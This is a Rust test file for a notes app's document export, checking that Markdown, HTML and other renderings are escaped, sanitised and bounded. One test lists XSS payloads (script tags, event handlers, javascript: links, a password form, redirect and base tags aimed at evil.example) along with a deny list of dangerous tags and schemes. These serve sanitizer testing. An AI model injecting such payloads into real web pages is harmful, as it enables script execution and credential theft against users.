use yrs::{Any, Map, Text, Transact};

use super::*;
use crate::protocol::empty_doc;

fn source(kind: Kind, title: &str, text: &str) -> Source {
    let doc = empty_doc();
    let (content, meta) = (doc.get_or_insert_text("content"), doc.get_or_insert_map("meta"));
    let mut txn = doc.transact_mut();
    content.insert(&mut txn, 0, text);
    meta.insert(&mut txn, "language", "rust");
    meta.insert(&mut txn, "blob", Any::Buffer([1, 2].as_slice().into()));
    drop(txn);
    let id = DocId::parse("notes-1").expect("an id");
    Source { id, kind, title: title.to_owned(), created_ms: 0, updated_ms: 1500, state: encode(&doc).into() }
}

fn no_pictures(_: &str) -> Option<(&'static str, Bytes)> {
    None
}

fn text(source: &Source, format: Format) -> String {
    let rendered = render(source, format, &no_pictures).expect("rendered");
    String::from_utf8(rendered.bytes.to_vec()).expect("UTF-8")
}

/// The body of a Markdown document's page.
fn markdown(text_: &str) -> String {
    let page = text(&source(Kind::Markdown, "t", text_), Format::Html);
    let (_, body) = page.split_once("<main>\n").expect("a main part");
    body.split_once("</main>").expect("its end").0.to_owned()
}

#[test]
fn formats_go_by_their_extension() {
    for format in Format::ALL {
        assert_eq!(Format::parse(format.extension()), Ok(format));
    }
    let error = Format::parse("odt").expect_err("not there").to_string();
    assert_eq!(error, "there is no export format \"odt\"; there are txt, md, html, docx, json and yjs");
}

#[test]
fn text_leaves_as_it_is() {
    let written = "# Zwölf 🦊\n\nline\n";
    let source = source(Kind::Markdown, "Zwölf", written);
    assert_eq!(text(&source, Format::Txt), written);
    assert_eq!(text(&source, Format::Md), written);
    let md = render(&source, Format::Md, &no_pictures).expect("rendered");
    assert_eq!((md.file_name.as_str(), md.content_type), ("Zwölf.md", "text/markdown; charset=utf-8"));
}

#[test]
fn yjs_is_the_state_and_reads_back() {
    let source = source(Kind::Text, "", "a");
    let rendered = render(&source, Format::Yjs, &no_pictures).expect("rendered");
    assert_eq!(rendered.bytes, source.state);
    assert_eq!(rendered.file_name, "notes-1.yjs");
    assert_eq!(Content::of_state(&rendered.bytes).expect("a state").text, "a");
}

#[test]
fn json_says_all_that_has_a_json_form() {
    let json = text(&source(Kind::Code, "A \"title\"", "fn main() {}"), Format::Json);
    let value: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!(
        value,
        json!({
            "id": "notes-1", "kind": "code", "title": "A \"title\"", "text": "fn main() {}",
            "created": "1970-01-01T00:00:00.000Z", "updated": "1970-01-01T00:00:01.500Z",
            "meta": {"language": "rust"},
        })
    );
}

#[test]
fn many_updates_replay_to_one_document() {
    let (doc, mut updates) = (empty_doc(), Vec::new());
    let content = doc.get_or_insert_text("content");
    for _ in 0..600 {
        let mut txn = doc.transact_mut();
        content.push(&mut txn, "x");
        updates.push(Bytes::from(txn.encode_update_v1()));
    }
    let replayed = replay(&updates).expect("good updates");
    assert_eq!(Content::of_doc(&replayed).text, "x".repeat(600));
}

#[test]
fn a_state_that_is_none_is_an_error() {
    let source = Source { state: Bytes::from_static(b"\xff"), ..source(Kind::Text, "", "") };
    assert!(matches!(render(&source, Format::Txt, &no_pictures), Err(ExportError::Damaged(_))));
}

#[test]
fn an_empty_document_is_an_empty_file() {
    let source = Source { state: encode(&empty_doc()).into(), ..source(Kind::Markdown, "", "") };
    assert_eq!(text(&source, Format::Txt), "");
    assert!(text(&source, Format::Html).contains("<title>notes-1</title>"));
}

#[test]
fn plain_text_is_escaped_and_keeps_its_lines() {
    let page = text(&source(Kind::Code, "<x> & \"y\"", "if a < b && c {\n\t\"d\"\n}"), Format::Html);
    assert!(page.contains("<title>&lt;x&gt; &amp; &quot;y&quot;</title>"), "{page}");
    let code = "<code class=\"language-rust\">if a &lt; b &amp;&amp; c {\n\t&quot;d&quot;\n}</code>";
    assert!(page.contains(&format!("<pre class=\"plain\">{code}</pre>")), "{page}");
    assert!(page.contains("charset=\"utf-8\"") && page.contains("default-src 'none'"));
}

#[test]
fn code_says_its_language_if_that_is_one() {
    let page = |kind, language: Any| {
        let doc = empty_doc();
        let (content, meta) = (doc.get_or_insert_text("content"), doc.get_or_insert_map("meta"));
        let mut txn = doc.transact_mut();
        content.insert(&mut txn, 0, "x");
        meta.insert(&mut txn, "language", language);
        drop(txn);
        text(&Source { state: encode(&doc).into(), ..source(kind, "t", "") }, Format::Html)
    };
    for language in ["rust", "c++", "c#", "objective-c", "x86asm", &"a".repeat(32)] {
        let code = format!("<pre class=\"plain\"><code class=\"language-{language}\">x</code></pre>");
        assert!(page(Kind::Code, language.into()).contains(&code), "{language}");
        assert!(page(Kind::Text, language.into()).contains("<pre class=\"plain\">x</pre>"));
    }
    let long = "a".repeat(33);
    let others = ["", "Rust", "a b", "\"><script>alert(1)</script>", "é", "a\n", &long].map(Any::from);
    for language in others.into_iter().chain([Any::Null, Any::from(7.0), Any::Bool(true)]) {
        assert!(page(Kind::Code, language.clone()).contains("<pre class=\"plain\">x</pre>"), "{language:?}");
    }
}

#[test]
fn headings_have_the_anchors_that_the_preview_has() {
    let html = markdown(
        "# A *Plan*, v1.2!\n\n## A plan\n\n## A plan\n\n## 中文 标题\n\n## snake_case  Ünï\n\n## `code` [x](y)\n",
    );
    let ids: Vec<&str> =
        html.split(" id=\"").skip(1).map(|rest| rest.split('"').next().expect("its end")).collect();
    assert_eq!(ids, ["a-plan-v12", "a-plan", "a-plan-1", "中文-标题", "snake_case--ünï", "code-x"]);
}

#[test]
fn github_markdown_survives_the_sanitizer() {
    let html = markdown("| a | b |\n|:-:|--:|\n| 1 | ~~2~~ |\n");
    assert!(
        html.contains("<th align=\"center\">a</th>")
            && html.contains("<td align=\"right\"><del>2</del></td>")
    );

    let html = markdown("- [x] done\n- [ ] open\n");
    assert!(html.contains("<ul class=\"contains-task-list\">"), "{html}");
    assert_eq!(html.matches("type=\"checkbox\"").count(), 2, "{html}");
    assert_eq!(html.matches("checked=\"\"").count(), 1, "{html}");
    assert_eq!(html.matches("disabled=\"\"").count(), 2, "{html}");

    let html = markdown("Said[^1].\n\n[^1]: By whom.\n");
    for part in
        ["href=\"#fn-1\"", "id=\"fnref-1\"", "<li id=\"fn-1\">", "href=\"#fnref-1\"", "class=\"footnotes\""]
    {
        assert!(html.contains(part), "{part} in {html}");
    }

    let html = markdown(
        "# A plan\n\nSee www.example.org and [the plan](#a-plan).\n\n```rust\nlet a = 1 < 2;\n```\n",
    );
    for part in
        ["id=\"a-plan\"", "href=\"#a-plan\"", "href=\"http://www.example.org\"", "class=\"language-rust\""]
    {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert!(html.contains("let a = 1 &lt; 2;"), "{html}");
}

#[test]
fn pictures_may_come_along_or_over_https() {
    assert!(markdown("![a](data:image/png;base64,iVBORw0KGgo=)").contains("src=\"data:image/png;base64,"));
    assert!(markdown("![a](https://example.org/a.png)").contains("src=\"https://example.org/a.png\""));
    for url in ["data:image/svg+xml;base64,PHN2Zz4=", "data:text/html,x", "DATA:image/pngx,x"] {
        assert!(!markdown(&format!("![a]({url})")).contains("data:"), "{url}");
    }
}

#[test]
fn a_page_carries_the_documents_own_pictures() {
    let asked = std::cell::RefCell::new(Vec::new());
    let pictures = |address: &str| {
        asked.borrow_mut().push(address.to_owned());
        let size = match address {
            "images/small.avif" => 3,
            "images/large.png" => 20 * 1024 * 1024,
            _ => return None,
        };
        let media_type = if size == 3 { "image/avif" } else { "image/png" };
        Some((media_type, Bytes::from(vec![0xff; size])))
    };
    let page = |text: &str| {
        let source = source(Kind::Markdown, "t", text);
        let page = render(&source, Format::Html, &pictures).expect("rendered").bytes;
        (String::from_utf8(page.to_vec()).expect("UTF-8"), std::mem::take(&mut *asked.borrow_mut()))
    };
    let (html, _) = page(
        "![a \"b\"](images/small.avif \"c\") and ![](images/none.png) and ![](https://example.org/a.png)",
    );
    let shown = "<img src=\"data:image/avif;base64,////\" alt=\"a &quot;b&quot;\" title=\"c\">";
    assert!(html.contains(shown), "{html}");
    assert!(html.contains("src=\"images/none.png\"") && html.contains("src=\"https://example.org/a.png\""));

    // What only looks like a picture is none: in text, in an attribute, in code, in raw HTML.
    let fakes = [
        "<img src=\"images/small.avif\">",
        "`<img src=\"images/small.avif\">`",
        "[a](https://example.org '<img src=\"images/small.avif\"')",
        "![<img src=\"images/small.avif\">](https://example.org/a.png)",
        "[a](images/small.avif)",
    ];
    for fake in fakes {
        let (html, _) = page(fake);
        assert!(!html.contains("data:image/avif"), "{fake} became {html}");
    }

    let (html, asked) = page(&"![](images/large.png)\n".repeat(100));
    assert_eq!(html.matches("src=\"data:image/png;base64,////").count(), 1, "32 MiB have room for one");
    assert_eq!(html.matches("src=\"images/large.png\"").count(), 99);
    assert_eq!(asked.len(), 2, "what has no room is not read again and again");
}

#[test]
fn nothing_in_a_document_can_run() {
    let payloads = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
        "<div style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "</main></body><script>alert(1)</script>",
        "<form action=https://evil.example><input name=password></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<object data=x></object><embed src=x><link rel=stylesheet href=x>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](https://example.org/x.png)",
        "[x](https://example.org \"t\" onclick=\"alert(1)\")",
        "[x]: javascript:alert(1)\n\n[x]",
        "```\" onmouseover=\"alert(1)\ncode\n```",
        "# <img src=x onerror=alert(1)>",
        "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
        "| <script>alert(1)</script> |\n|---|\n| <svg onload=alert(1)> |",
    ];
    for payload in payloads {
        let html = markdown(payload);
        assert_harmless(&html, payload);
    }
}

/// Looks at the tags alone: an attack that is shown as text is only text.
fn assert_harmless(html: &str, payload: &str) {
    for tag in html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or(rest).to_ascii_lowercase())
    {
        let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default().to_owned();
        for bad in
            ["script", "svg", "math", "style", "iframe", "form", "meta", "base", "object", "embed", "link"]
        {
            assert_ne!(name, bad, "{payload:?} became {html:?}");
        }
        let attributes =
            tag.split(' ').skip(1).map(|attribute| attribute.split('=').next().unwrap_or_default());
        for attribute in attributes {
            let bad = (attribute.starts_with("on") && tag.contains(&format!(" {attribute}=\"")))
                || matches!(attribute, "style" | "srcdoc" | "action" | "formaction");
            assert!(!bad, "{payload:?} became {html:?}");
        }
        for scheme in ["\"javascript:", "\"vbscript:", "\"data:"] {
            assert!(!tag.contains(scheme), "{payload:?} became {html:?}");
        }
    }
}

#[test]
fn what_is_too_long_to_lay_out_is_shown_as_plain_text() {
    let long = "*a*\n".repeat(1024 * 1024);
    assert!(markdown(&format!("{long}b")).starts_with("<pre class=\"plain\">*a*\n*a*"));
}

#[test]
fn what_nests_beyond_reason_is_shown_as_plain_text() {
    let html = markdown(&">".repeat(200_000));
    assert!(html.starts_with("<pre class=\"plain\">&gt;&gt;"));
    assert!(markdown(&"> ".repeat(50)).starts_with("<blockquote>"));
}
